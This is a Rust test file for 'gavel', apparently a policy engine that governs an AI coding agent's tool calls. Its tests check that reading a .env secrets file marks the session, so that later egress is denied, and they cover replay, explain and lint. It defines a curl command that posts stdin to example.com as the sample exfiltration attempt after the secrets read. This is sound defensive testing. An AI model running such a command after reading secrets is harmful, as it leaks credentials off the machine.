//! Session flows through the real Claude Code hook: a secrets read labels
//! its session, and the session's later egress is denied, in that session
//! only, across processes; replay without the flow rule names exactly that
//! call, loosened, and the read that set the state.

use serde_json::{Value, json};

use crate::support::{Sandbox, json, run_expecting, tool_payload};

/// Sends one Claude Code `PreToolUse` of `session` through `gavel hook`;
/// the permission decision and its reason.
fn hook(sandbox: &Sandbox, session: &str, id: &str, tool: &str, input: Value) -> (String, String) {
    let mut payload = tool_payload(sandbox, "pre_tool_use.json", id, tool, input);
    payload["session_id"] = json!(session);
    let output = run_expecting(
        sandbox
            .gavel(&["hook", "claude-code"])
            .write_stdin(payload.to_string()),
        0,
    );
    let answer = json(&output)["hookSpecificOutput"].clone();
    (
        answer["permissionDecision"].as_str().unwrap().to_owned(),
        answer["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .to_owned(),
    )
}

const CURL: &str = "curl -d @- https://example.com/hook";

#[test]
fn egress_after_a_secrets_read_is_denied_in_that_session_only_and_replay_names_the_read() {
    let sandbox = Sandbox::new();
    sandbox.write("gavel.toml", gavel::policy::CODING_AGENT_POLICY_TOML);
    sandbox.write(".env", "API_KEY=not-for-the-web\n");
    let env = sandbox.ws.join(".env").to_string_lossy().into_owned();

    let (read, _) = hook(
        &sandbox,
        "s-read",
        "read-env",
        "Read",
        json!({"file_path": env}),
    );
    assert_eq!(read, "allow");
    // A later call of the same session, in a new process.
    let (sent, why) = hook(
        &sandbox,
        "s-read",
        "curl-after",
        "Bash",
        json!({"command": CURL}),
    );
    assert_eq!(sent, "deny", "{why}");
    assert!(
        why.starts_with("[flow.egress_after_private]") && why.contains("set by call read-env"),
        "{why}"
    );
    let (fetched, why) = hook(
        &sandbox,
        "s-read",
        "fetch-after",
        "WebFetch",
        json!({"url": "https://example.com", "prompt": "p"}),
    );
    assert_eq!(fetched, "deny", "{why}");
    // The same command in a session that read no secret is asked, as ever.
    let (fresh, why) = hook(
        &sandbox,
        "s-clean",
        "curl-fresh",
        "Bash",
        json!({"command": CURL}),
    );
    assert_eq!(fresh, "ask", "{why}");
    assert!(why.starts_with("[bash.requires_approval]"), "{why}");

    // Replayed under the policy in force: exact, nothing moves.
    let same = json(&run_expecting(&mut sandbox.gavel(&["replay", "--json"]), 0));
    assert_eq!(same["changed"], 0, "{same}");

    // Under the preset without its flow rule: exactly the two egress calls
    // of the session that read the secret loosen, each naming the read.
    let preset = gavel::policy::CODING_AGENT_POLICY_TOML;
    let start = preset.find("[[rules]]\n# Exfiltration").unwrap();
    let end = start + 9 + preset[start + 9..].find("[[rules]]").unwrap();
    sandbox.write(
        "noflow.toml",
        &format!("{}{}", &preset[..start], &preset[end..]),
    );
    let noflow = sandbox.ws.join("noflow.toml");
    // A loosening fails the replay (exit 1), as any would.
    let drift = json(&run_expecting(
        &mut sandbox.gavel(&["replay", "--json", "--policy", noflow.to_str().unwrap()]),
        1,
    ));
    assert_eq!(drift["changed"], 2, "{drift}");
    assert_eq!(drift["loosened"], 2, "{drift}");
    let calls = drift["calls"].as_array().unwrap();
    let ids: Vec<&str> = calls
        .iter()
        .map(|c| c["call_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["curl-after", "fetch-after"]);
    for call in calls {
        assert_eq!(call["from"]["rule_id"], "flow.egress_after_private");
        assert_eq!(
            call["because"],
            json!({"label": "private", "call_id": "read-env"})
        );
    }
    assert_eq!(calls[0]["to"]["action"], "ask");

    // `explain` re-decides on the history the decision read.
    let explained = json(&run_expecting(
        &mut sandbox.gavel(&["explain", "curl-after", "--json"]),
        0,
    ));
    assert_eq!(
        explained["after"],
        json!({"label": "private", "call_id": "read-env"})
    );
    assert_eq!(explained["labels"], json!(["egress"]));
    let trace = explained["trace"].as_array().unwrap();
    let flow = trace
        .iter()
        .find(|t| t["rule_id"] == "flow.egress_after_private")
        .unwrap();
    assert_eq!(flow["matched"], true, "{flow}");

    // Exported as cases, the calls decide as recorded: the history goes with them.
    let cases = sandbox.root.join("cases.jsonl");
    let export = run_expecting(&mut sandbox.gavel(&["export", "--requests"]), 0);
    std::fs::write(&cases, &export.stdout).unwrap();
    run_expecting(
        &mut sandbox.gavel(&["policy", "test", cases.to_str().unwrap()]),
        0,
    );
}

/// Only a call that took place labels its session: a secrets read that a
/// person rejected sets nothing, one approved does; the record is a real
/// store, the pipeline the library's, a new runner (a new process) per call.
#[test]
fn a_refused_call_sets_no_label_and_an_approved_one_does() {
    use gavel::{ApprovalStatus, Decision, GovernedRunner, Policy, ToolRequest, Workspace};
    const ASKED_READS: &str = r#"
name = "asked-reads"

[[labels]]
id = "label.secrets"
labels = ["private"]
content_glob = ["**/.env"]

[[rules]]
id = "flow.fetch_after_secrets"
action = "deny"
tools = ["web_fetch"]
after = ["private"]
reason = "{after}"

[[rules]]
id = "read.asked"
action = "ask"
tools = ["read_file"]
reason = "reads are asked"

[[rules]]
id = "fetch.allowed"
action = "allow"
tools = ["web_fetch"]
reason = "fetches are allowed"
"#;
    let sandbox = Sandbox::new();
    sandbox.write(".env", "K=1\n");
    let mut store =
        gavel::store::Store::open(&sandbox.db, gavel::store::Durability::Normal).unwrap();
    let call = |store: &mut gavel::store::Store,
                id: &str,
                tool: &str,
                arguments: Value,
                answer: ApprovalStatus| {
        let runner = GovernedRunner::new(
            Policy::from_toml(ASKED_READS, "asked-reads.toml").unwrap(),
            Workspace::open(&sandbox.ws).unwrap(),
            gavel::tools::Registry::builtin(),
        )
        .with_principal(gavel::principal::Principal::current("test").with_session(Some("s")));
        let mut approver = move |_: &ToolRequest, _: &Decision| answer;
        let request = ToolRequest::new(id, tool, arguments);
        runner
            .run(id, &request, None, &mut approver, store)
            .unwrap()
            .decision()
            .rule_id
            .clone()
    };
    let read = json!({"path": ".env"});
    let fetch = json!({"url": "https://example.com"});
    call(
        &mut store,
        "read-rejected",
        "read_file",
        read.clone(),
        ApprovalStatus::Rejected,
    );
    assert_eq!(
        call(
            &mut store,
            "fetch-1",
            "web_fetch",
            fetch.clone(),
            ApprovalStatus::Approved
        ),
        "fetch.allowed"
    );
    call(
        &mut store,
        "read-approved",
        "read_file",
        read,
        ApprovalStatus::Approved,
    );
    assert_eq!(
        call(
            &mut store,
            "fetch-2",
            "web_fetch",
            fetch,
            ApprovalStatus::Approved
        ),
        "flow.fetch_after_secrets"
    );
    let (_, history) = store.session_history("s", &["private".to_owned()]).unwrap();
    assert_eq!(history.set_by("private"), Some("read-approved"));
}

/// `serve` makes one session of its stream, `run` takes `$GAVEL_SESSION`:
/// a custom harness gets flows too, and a new stream starts clean.
#[test]
fn a_serve_stream_is_one_session_and_run_joins_gavel_session() {
    let sandbox = Sandbox::new();
    sandbox.write("gavel.toml", gavel::policy::CODING_AGENT_POLICY_TOML);
    sandbox.write(".env", "K=1\n");
    let line = |id: &str, tool: &str, input: Value| {
        json!({"type": "tool_use", "id": id, "name": tool, "input": input}).to_string() + "\n"
    };
    let read = line("sv-read", "read_file", json!({"path": ".env"}));
    let curl = |id: &str| line(id, "bash", json!({"command": CURL}));
    let output = run_expecting(
        sandbox
            .gavel(&["serve", "--stdio"])
            .write_stdin(format!("{read}{}", curl("sv-curl"))),
        0,
    );
    let replies = crate::support::json_lines(&output);
    assert_eq!(
        replies[1]["rule_id"], "flow.egress_after_private",
        "{replies:?}"
    );
    // Another stream, another session: asked (and cancelled at end of input).
    let output = run_expecting(
        sandbox
            .gavel(&["serve", "--stdio"])
            .write_stdin(curl("sv-fresh")),
        0,
    );
    let replies = crate::support::json_lines(&output);
    let last = replies.last().unwrap();
    assert_eq!(last["rule_id"], "bash.requires_approval", "{replies:?}");

    let run = |session: Option<&str>, args: &[&str]| {
        let mut cmd = sandbox.gavel(args);
        if let Some(session) = session {
            cmd.env("GAVEL_SESSION", session);
        }
        json(&cmd.output().unwrap())
    };
    run(
        Some("harness-1"),
        &["run", "read_file", r#"{"path":".env"}"#, "--json"],
    );
    let joined = run(
        Some("harness-1"),
        &[
            "run",
            "bash",
            &json!({"command": CURL}).to_string(),
            "--reject",
            "--json",
        ],
    );
    assert_eq!(joined["rule_id"], "flow.egress_after_private", "{joined}");
    let alone = run(
        None,
        &[
            "run",
            "bash",
            &json!({"command": CURL}).to_string(),
            "--reject",
            "--json",
        ],
    );
    assert_eq!(alone["rule_id"], "bash.requires_approval", "{alone}");
}

/// A label a rule gives when it decides (not a `[[labels]]` entry) is
/// re-derived by replay too: the policy that decided replays without drift,
/// and `policy lint` counts the flow rule as used.
#[test]
fn labels_given_by_deciding_rules_replay_exactly() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "gavel.toml",
        r#"name = "rule-labels"

[[rules]]
id = "fetch.after_touch"
action = "deny"
tools = ["web_fetch"]
after = ["touched"]
reason = "{after}"

[[rules]]
id = "read.tag"
action = "allow"
tools = ["read_file"]
labels = ["touched"]
reason = "reads are allowed"

[[rules]]
id = "fetch.allowed"
action = "allow"
tools = ["web_fetch"]
reason = "fetches are allowed"
"#,
    );
    let run = |args: &[&str]| {
        let output = sandbox
            .gavel(args)
            .env("GAVEL_SESSION", "tagged")
            .output()
            .unwrap();
        json(&output)
    };
    run(&["run", "read_file", r#"{"path":"notes.txt"}"#, "--json"]);
    let fetched = run(&[
        "run",
        "web_fetch",
        r#"{"url":"https://example.com"}"#,
        "--json",
    ]);
    assert_eq!(fetched["rule_id"], "fetch.after_touch", "{fetched}");
    let replayed = json(&run_expecting(&mut sandbox.gavel(&["replay", "--json"]), 0));
    assert_eq!(replayed["changed"], 0, "{replayed}");
    let lint = json(&run_expecting(
        &mut sandbox.gavel(&["policy", "lint", "--json"]),
        0,
    ));
    let usage = lint["usage"]["by_rule"].as_array().unwrap();
    let flow = usage
        .iter()
        .find(|r| r["rule_id"] == "fetch.after_touch")
        .unwrap();
    assert_eq!(flow["calls"], 1, "{lint}");
}
